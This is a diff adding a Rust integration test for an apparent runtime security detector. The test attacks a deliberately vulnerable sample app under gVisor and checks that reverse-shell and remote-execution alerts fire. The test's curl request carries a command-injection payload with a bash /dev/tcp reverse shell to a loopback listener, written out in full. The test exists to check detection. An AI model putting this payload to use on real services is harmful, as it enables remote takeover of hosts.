@@ -189,3 +189,41 @@ fn gvisor_exec_failures_give_127_and_126() {
     let out = in_gvisor_exec(&[], &["/etc/passwd"]);
     assert_eq!(out.status.code(), Some(126));
 }
+
+/// The container scenario under gVisor: the vulnerable sample service, attacked through its command
+/// injection with a reverse shell to a listener, all inside one sandbox (its loopback; `runsc do`
+/// does not expose sandbox listeners to the host).
+#[test]
+fn gvisor_vulnerable_app_reverse_shell() {
+    let app =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../integration/docker/apps/pyweb/app.py");
+    let app = std::fs::canonicalize(app).unwrap().display().to_string();
+    // The attacker's listener says when it listens (a file), so the shell never races it.
+    let listener =
+        "import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);\
+s.bind(('127.0.0.1',4444));s.listen(1);open('/tmp/rw-gv-ready','w').close();s.settimeout(40);c,_=s.accept();\
+c.sendall(b'id -u\\nexit 0\\n');time.sleep(1);print('session:',c.recv(4096))";
+    let script = format!(
+        r#"rm -f /tmp/rw-gv-ready
+        python3 {app} 18090 & app=$!
+        for i in $(seq 150); do curl -s http://127.0.0.1:18090/healthz >/dev/null && break; sleep 0.2; done
+        timeout 60 python3 -c "{listener}" & l=$!
+        for i in $(seq 150); do [ -e /tmp/rw-gv-ready ] && break; sleep 0.2; done
+        curl -s --max-time 30 "http://127.0.0.1:18090/lookup?name=x;bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/127.0.0.1/4444%200%3E%261%27" >/dev/null
+        wait $l; kill $app; wait $app; true"#
+    );
+    let out = in_gvisor(&[], &script);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("session:"), "the reverse shell never connected");
+    let lines = json_lines(&out);
+    let categories: Vec<&str> = lines.iter().filter_map(|v| v["finding"]["category"].as_str()).collect();
+    for want in
+        ["Unexpected Child Shell", "Reverse Shell", "Execution: Possible Remote Command Execution Detected"]
+    {
+        assert!(
+            categories.contains(&want),
+            "missing {want:?} under gVisor: {categories:?}\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
